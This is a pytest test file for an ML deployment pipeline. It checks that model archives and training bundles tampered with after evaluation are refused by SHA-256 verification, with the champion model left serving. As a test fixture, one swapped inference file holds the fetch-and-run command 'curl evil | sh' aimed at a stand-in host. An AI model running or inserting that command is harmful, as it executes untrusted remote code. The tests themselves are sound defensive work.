"""Artifacts are what was evaluated: StartDeployment refuses a model.tar.gz whose SHA-256 is not the registered
one, records the reason on the version, changes nothing on the endpoint, and the champion keeps serving."""

from __future__ import annotations

import contextlib
import hashlib
import json
from collections.abc import Iterator
from typing import Any
from unittest import mock

import pytest
from moto.iam.access_control import IAMPolicy, PermissionResult

from challenger.local.template import LocalTemplate
from challenger_core import artifacts
from challenger_core.adapters.storage import Storage
from challenger_core.errors import ArtifactIntegrityError
from challenger_core.models import Champion, ModelStatus, ModelVersion, NotificationKind
from challenger_core.registry import Registry
from tests.support.emails import email_of, sent
from tests.support.events import load_event
from tests.support.fake_sagemaker import manifest, model_artifact, tar_gz
from tests.support.lambda_context import context
from tests.support.stack import Stack
from tests.unit.functions.api_support import live_model
from tests.unit.functions.test_batch_scoring import FakeTransform
from tests.unit.functions.test_batch_scoring import start as start_batch
from tests.unit.functions.test_deployment_steps import deploy_until_settled, invoke, registry, staged

ARCHIVE = b"the evaluated model.tar.gz"


def register(stack: Stack, version: int, status: ModelStatus, body: bytes = ARCHIVE, **fields: Any) -> str:
    """Upload an archive and register the version with the archive's digest (what RegisterCandidate records)."""
    model = stack.trained_version(version, status, body, **fields)
    Registry(stack.ddb, stack.env["MODELS_TABLE"]).put_model(model)
    assert model.model_data_url is not None
    return model.model_data_url.removeprefix(f"s3://{stack.env['ARTIFACT_BUCKET']}/")


def registry_model(stack: Stack, version: int) -> ModelVersion:
    return Registry(stack.ddb, stack.env["MODELS_TABLE"]).get_model(version)


def deploy(stack: Stack, version: int, reason: str = "training") -> dict[str, Any]:
    event = load_event("start_deployment", "new_version")
    event["request"].update(version=version, reason=reason)
    result: dict[str, Any] = stack.handler("start_deployment").lambda_handler(event, context("StartDeployment"))
    return result


def test_an_untouched_archive_deploys(stack: Stack) -> None:
    register(stack, 1, ModelStatus.APPROVED)
    state = deploy(stack, 1)
    model = registry_model(stack, 1)
    pinned = f"models/sha256/{model.artifact_sha256}/model.tar.gz"
    # SageMaker loads the verified copy at its content-addressed key, never the training job's mutable one.
    assert stack.sagemaker.models[state["plan"]["model_name"]] == f"s3://{stack.env['ARTIFACT_BUCKET']}/{pinned}"
    assert stack.s3.get_object(Bucket=stack.env["ARTIFACT_BUCKET"], Key=pinned)["Body"].read() == ARCHIVE


@pytest.mark.parametrize("reason", ["training", "rollback"])
def test_a_replaced_archive_is_refused_and_the_champion_keeps_serving(stack: Stack, reason: str) -> None:
    registry = Registry(stack.ddb, stack.env["MODELS_TABLE"])
    register(stack, 1, ModelStatus.LIVE, was_live=True)
    registry.set_champion(
        Champion(version=1, model_name="challenger-v1", endpoint_config_name="challenger-v1-config"),
        expected_version=None,
    )
    stack.sagemaker.endpoints["challenger"] = {"status": "InService", "config": "challenger-v1-config"}
    status = ModelStatus.APPROVED if reason == "training" else ModelStatus.RETIRED
    key = register(stack, 2, status, was_live=reason == "rollback")
    stack.s3.put_object(Bucket=stack.env["ARTIFACT_BUCKET"], Key=key, Body=b"a model that runs someone's code")
    models_before = dict(stack.sagemaker.models)

    with pytest.raises(ArtifactIntegrityError, match=r"refusing to deploy v2: its archive .* has SHA-256"):
        deploy(stack, 2, reason)

    model = registry.get_model(2)
    assert model.status is status  # unchanged: restoring the evaluated archive makes it deployable again
    assert "replaced after evaluation" in (model.failure_reason or "")
    assert stack.sagemaker.models == models_before  # no SageMaker model was created from it
    assert stack.sagemaker.endpoints["challenger"]["config"] == "challenger-v1-config"
    assert registry.get_champion().version == 1  # type: ignore[union-attr]


def test_the_failure_email_says_why(stack: Stack) -> None:
    message = "refusing to deploy v2: its archive s3://b/k has SHA-256 ab, not the cd registered"
    event = {  # what the deployment pipeline's NotifyNotDeployed sends after StartDeployment raised
        "kind": "failed",
        "deployment": {
            "request": {"version": 2, "reason": "rollback"},
            "error": {
                "Error": "ArtifactIntegrityError",
                "Cause": json.dumps({"errorMessage": message, "errorType": "ArtifactIntegrityError"}),
            },
        },
    }
    stack.handler("notify").lambda_handler(event, context("Notify"))
    assert message in email_of(sent(stack), NotificationKind.FAILED).body


# ------------------------------------------------------------------------------------------------------------------
# Issue 18, F1: every path that runs a model runs the pinned, verified copy
# ------------------------------------------------------------------------------------------------------------------


def bucket(stack: Stack) -> str:
    return stack.env["ARTIFACT_BUCKET"]


def trained_with_manifest(stack: Stack, files: dict[str, bytes]) -> tuple[str, str]:
    """What a training job leaves: model.tar.gz, and output.tar.gz with the kit's manifest of those files."""
    model_key, output_key = "training/job-7/output/model.tar.gz", "training/job-7/output/output.tar.gz"
    stack.s3.put_object(Bucket=bucket(stack), Key=model_key, Body=tar_gz(files))
    stack.s3.put_object(Bucket=bucket(stack), Key=output_key, Body=tar_gz({"model_manifest.json": manifest(files)}))
    return f"s3://{bucket(stack)}/{model_key}", f"s3://{bucket(stack)}/{output_key}"


MODEL_FILES = {"model.npz": b"weights", "code/inference.py": b"def predict_fn(data, model): ..."}


def test_registration_records_the_digest_and_version_of_the_archive_the_job_produced(stack: Stack) -> None:
    model_url, output_url = trained_with_manifest(stack, MODEL_FILES)
    stored = stack.s3.get_object(Bucket=bucket(stack), Key=model_url.split("/", 3)[3])

    digest, version_id = artifacts.register_artifact(model_url, output_url, Storage(stack.s3))

    assert (digest, version_id) == (hashlib.sha256(stored["Body"].read()).hexdigest(), stored["VersionId"])


def test_an_archive_swapped_before_registration_is_not_registered(stack: Stack) -> None:
    """#57-58: the digest was taken from whatever sat in S3 at RegisterCandidate; now the members must be the files
    the job hashed, so a swapped archive (here: other serving code) is refused."""
    model_url, output_url = trained_with_manifest(stack, MODEL_FILES)
    swapped = {**MODEL_FILES, "code/inference.py": b"import os; os.system('curl evil | sh')"}
    stack.s3.put_object(Bucket=bucket(stack), Key=model_url.split("/", 3)[3], Body=tar_gz(swapped))

    with pytest.raises(ArtifactIntegrityError, match=r"not what the training job produced: 1 file\(s\) differ"):
        artifacts.register_artifact(model_url, output_url, Storage(stack.s3))


def test_a_job_without_a_manifest_is_not_registered(stack: Stack) -> None:
    model_url, output_url = trained_with_manifest(stack, MODEL_FILES)
    stack.s3.put_object(Bucket=bucket(stack), Key=output_url.split("/", 3)[3], Body=tar_gz({"evaluation.json": b"{}"}))
    with pytest.raises(ArtifactIntegrityError, match=r"left no readable model_manifest\.json"):
        artifacts.register_artifact(model_url, output_url, Storage(stack.s3))


class FlippingStorage(Storage):
    """S3 as an attacker sees it during the check: the object under the key is replaced while it is being read."""

    def __init__(self, client: Any, key: str) -> None:
        super().__init__(client)
        self.client, self.key = client, key

    @contextlib.contextmanager
    def open(self, bucket: str, key: str, *, version_id: str | None = None) -> Iterator[Any]:
        with super().open(bucket, key, version_id=version_id) as body:
            if key == self.key:
                self.client.put_object(Bucket=bucket, Key=key, Body=b"flipped while it was checked")
            yield body


def test_a_flip_during_the_check_changes_nothing_sagemaker_loads(stack: Stack) -> None:
    """#59: the check read one object and CreateModel named the key, fetched again at every container start. Now
    the registered version is copied as it is hashed, and CreateModel names that copy."""
    key = register(stack, 1, ModelStatus.APPROVED)
    version_id = stack.s3.head_object(Bucket=bucket(stack), Key=key)["VersionId"]
    Registry(stack.ddb, stack.env["MODELS_TABLE"]).update_model(1, artifact_version_id=version_id)

    url = artifacts.pin(registry_model(stack, 1), FlippingStorage(stack.s3, key), bucket(stack))
    state = deploy(stack, 1)

    assert stack.sagemaker.models[state["plan"]["model_name"]] == url
    assert stack.s3.get_object(Bucket=bucket(stack), Key=url.split("/", 3)[3])["Body"].read() == ARCHIVE


def test_a_restart_after_the_training_key_is_replaced_loads_the_verified_bytes(stack: Stack) -> None:
    """#62: a container start downloads ModelDataUrl again; it names the pinned copy, not the replaced key."""
    key = register(stack, 1, ModelStatus.APPROVED)
    state = deploy(stack, 1)
    stack.s3.put_object(Bucket=bucket(stack), Key=key, Body=b"a model that runs someone's code")

    model_data_url = stack.sagemaker.models[state["plan"]["model_name"]]
    assert not model_data_url.endswith(key)
    assert stack.s3.get_object(Bucket=bucket(stack), Key=model_data_url.split("/", 3)[3])["Body"].read() == ARCHIVE


def test_a_batch_job_is_refused_when_the_champions_pinned_copy_was_replaced(stack: Stack) -> None:
    """#60: Batch Transform never verified. Now its start checks the pinned copy the SageMaker model loads, and
    starts no transform job (the champion keeps serving: nothing about the endpoint changes)."""
    live_model(stack)
    digest = registry_model(stack, 3).artifact_sha256
    stack.s3.put_object(Bucket=bucket(stack), Key=f"models/sha256/{digest}/model.tar.gz", Body=b"someone's code")
    transform = FakeTransform(stack.s3)
    with (
        mock.patch.object(stack.handler("batch_scoring"), "_transform", return_value=transform),
        pytest.raises(ArtifactIntegrityError, match="refusing to score with v3"),
    ):
        start_batch(stack)
    assert transform.jobs == {}
    assert stack.sagemaker.endpoints["challenger"]["config"] == "challenger-v3-config"


# ------------------------------------------------------------------------------------------------------------------
# Issue 18, F2: the recipe bundle runs only as published
# ------------------------------------------------------------------------------------------------------------------


def published_bundle_key(stack: Stack) -> str:
    record = stack.s3.get_object(Bucket=bucket(stack), Key="recipes/sentiment/bundle.json")["Body"].read()
    return str(json.loads(record)["key"])


def test_a_replaced_recipe_bundle_is_refused_at_start_training(stack: Stack) -> None:
    """#63-64: a replaced sourcedir.tar.gz ran in every later job; now StartTraining checks what is under the
    published key (what SageMaker downloads) against the published digest, and no training job starts."""
    key = published_bundle_key(stack)
    stack.s3.put_object(Bucket=bucket(stack), Key=key, Body=tar_gz({"train.py": b"backdoor()"}))
    with pytest.raises(ArtifactIntegrityError, match="refusing to train: the recipe bundle"):
        artifacts.verified_bundle_url(Storage(stack.s3), bucket(stack), "sentiment")


def test_the_published_bundle_written_again_with_the_same_bytes_still_runs(stack: Stack) -> None:
    key = published_bundle_key(stack)
    published = stack.s3.get_object(Bucket=bucket(stack), Key=key)["Body"].read()
    stack.s3.put_object(Bucket=bucket(stack), Key=key, Body=published)  # same bytes, new version: still the digest
    assert artifacts.verified_bundle_url(Storage(stack.s3), bucket(stack), "sentiment") == f"s3://{bucket(stack)}/{key}"


def test_a_bundle_without_the_publishers_record_is_refused(stack: Stack) -> None:
    stack.s3.delete_object(Bucket=bucket(stack), Key="recipes/sentiment/bundle.json")
    with pytest.raises(ArtifactIntegrityError, match="not published by the recipe publisher"):
        artifacts.verified_bundle_url(Storage(stack.s3), bucket(stack), "sentiment")


TEMPLATE = LocalTemplate()


def statements(logical_id: str) -> dict[str, dict[str, Any]]:
    resource = TEMPLATE.template["Resources"][logical_id]["Properties"]
    documents = [resource["PolicyDocument"]] if "PolicyDocument" in resource else []
    documents += [p["PolicyDocument"] for p in resource.get("Policies", []) if "PolicyDocument" in p]
    documents += [p for p in resource.get("Policies", []) if isinstance(p, dict) and "Statement" in p]
    return {s["Sid"]: s for d in documents for s in d["Statement"] if "Sid" in s}


def test_only_deployment_writes_pinned_models_and_only_the_publisher_writes_recipes() -> None:
    policy = statements("ArtifactBucketPolicy")
    # The shadow stage (issue 23) pins the challenger's archive the same way (artifacts.pin) before its shadow runs it.
    for sid, prefix, writers in (
        ("OnlyDeploymentWritesPinnedModels", "models/*", ["StartDeploymentFunctionRole", "ShadowStageFunctionRole"]),
        ("OnlyThePublisherWritesRecipes", "recipes/*", ["PublishRecipeFunctionRole"]),
    ):
        statement = policy[sid]
        assert (statement["Effect"], statement["Principal"]) == ("Deny", "*")
        assert {"s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion"} <= set(statement["Action"])
        assert statement["Resource"] == {"Fn::Sub": f"${{ArtifactBucket.Arn}}/{prefix}"}
        arns = [{"Fn::GetAtt": [writer, "Arn"]} for writer in writers]
        assert statement["Condition"] == {"ArnNotEquals": {"aws:PrincipalArn": arns[0] if len(arns) == 1 else arns}}


def test_the_training_role_writes_only_training_output() -> None:
    """F2: SageMakerExecutionRole had s3:PutObject on the whole artifact bucket (recipes/ and models/ included)."""
    role = TEMPLATE.resolve(TEMPLATE.resources["SageMakerExecutionRole"]["Properties"]["Policies"])[0]
    policy = IAMPolicy(json.dumps(role["PolicyDocument"]))
    arn = TEMPLATE.get_att("ArtifactBucket", "Arn")

    def allowed(action: str, key: str) -> bool:
        return policy.is_action_permitted(action, f"{arn}/{key}") == PermissionResult.PERMITTED

    assert allowed("s3:PutObject", "training/job/output/model.tar.gz")
    assert not allowed("s3:PutObject", "recipes/sentiment/sha256/ab/sourcedir.tar.gz")
    assert not allowed("s3:PutObject", "recipes/sentiment/bundle.json")
    assert not allowed("s3:PutObject", f"models/sha256/{'a' * 64}/model.tar.gz")
    assert allowed("s3:GetObject", "recipes/sentiment/sha256/ab/sourcedir.tar.gz")
    assert allowed("s3:GetObject", f"models/sha256/{'a' * 64}/model.tar.gz")  # a retrain's champion channel


def test_the_smoke_test_judges_the_pinned_copy_by_its_own_golden_set(stack: Stack) -> None:
    """Found on the local cloud (tests/integration/test_auto_mode.py): a rollback to v1 after v1's training key was
    replaced served v1's verified copy but read the golden set from the replaced key, failed and rolled back."""
    staged(stack, 2)
    state = deploy_until_settled(stack, 2)
    url = registry(stack).get_model(2).model_data_url
    assert url is not None
    stack.s3.put_object(Bucket=bucket(stack), Key=url.split("/", 3)[3], Body=model_artifact({}, golden=False))

    state = invoke(stack, "smoke_test", state)

    assert state["smoke"]["passed"] is True
    assert state["smoke"]["detail"] == "4 golden predictions reproduced (score tolerance 1e-06)"
